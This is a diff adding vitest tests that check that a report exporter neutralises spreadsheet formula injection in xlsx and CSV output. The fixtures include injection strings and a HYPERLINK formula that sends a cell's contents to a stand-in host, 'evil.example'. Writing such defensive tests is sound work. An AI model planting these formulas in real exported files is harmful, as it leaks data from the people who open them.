@@ -1,0 +1,64 @@
+import { inflateRawSync } from 'node:zlib'
+import { expect, test } from 'vitest'
+import { makeExportedReport } from '@/tests/setup/exported-report'
+import { makeReportInputs } from '@/tests/setup/report-inputs'
+import { writeExport } from './write-export'
+
+/** The files of a ZIP archive whose entries name their sizes, as text. */
+function unzip(bytes: Uint8Array): Map<string, string> {
+  const archive = Buffer.from(bytes)
+  const files = new Map<string, string>()
+  const end = archive.lastIndexOf('PK\u0005\u0006', undefined, 'latin1')
+  let at = archive.readUInt32LE(end + 16)
+  for (let left = archive.readUInt16LE(end + 10); left > 0; left -= 1) {
+    const [method, packed, nameLength] = [
+      archive.readUInt16LE(at + 10),
+      archive.readUInt32LE(at + 20),
+      archive.readUInt16LE(at + 28),
+    ]
+    const start = archive.readUInt32LE(at + 42)
+    const from = start + 30 + archive.readUInt16LE(start + 26) + archive.readUInt16LE(start + 28)
+    const content = archive.subarray(from, from + packed)
+    files.set(
+      archive.toString('utf8', at + 46, at + 46 + nameLength),
+      (method === 0 ? content : inflateRawSync(content)).toString(),
+    )
+    at += 46 + nameLength + archive.readUInt16LE(at + 30) + archive.readUInt16LE(at + 32)
+  }
+  return files
+}
+
+const formula = '=HYPERLINK("http://evil.example?"&A1,"press")'
+const inputs = makeReportInputs()
+inputs.source.name = '=1+1 <b>&"\r\nx: y'
+for (const document of inputs.documents) {
+  document.title = '@SUM(A1)'
+  for (const [place, claim] of (document.adjudication?.claims ?? []).entries())
+    claim.exact = ['+1-1', '-2+3', formula, '\t=1', 'a\u0000b\uD800', 'x'.repeat(40_000)][place % 6] ?? ''
+}
+const bent = makeExportedReport(inputs)
+
+test('a workbook has no formula, all words, and XML that can be read', async () => {
+  const { bytes, fileName } = await writeExport(bent, 'xlsx')
+  if (typeof bytes === 'string') throw new Error('no bytes')
+  const files = unzip(bytes)
+  const sheets = [...files].filter(([name]) => name.startsWith('xl/worksheets/sheet'))
+  expect(sheets).toHaveLength(3)
+  const all = [...files.values()].join('\n')
+  for (const [, sheet] of sheets) expect(sheet).not.toMatch(/<f[ >]|t="str"/)
+  expect(all).toContain('=HYPERLINK(')
+  expect(all).toContain('(cut: a cell holds no more')
+  expect(all).not.toContain('\u0000')
+  expect(fileName).toMatch(/ report 2\.xlsx$/)
+})
+
+test('CSV begins with a byte order mark, and no cell begins a formula', async () => {
+  const { bytes } = await writeExport(bent, 'csv')
+  expect(String(bytes).startsWith('\uFEFF')).toBe(true)
+  expect(String(bytes)).not.toMatch(/(^|[,"\n\t])[=+@-]/m)
+  expect(String(bytes)).toContain(`'=HYPERLINK(`)
+})
+
+test('what cannot be written is refused in a sentence', async () => {
+  await expect(writeExport({ ...bent, address: null }, 'claim-review')).rejects.toThrow('Publish the report')
+})
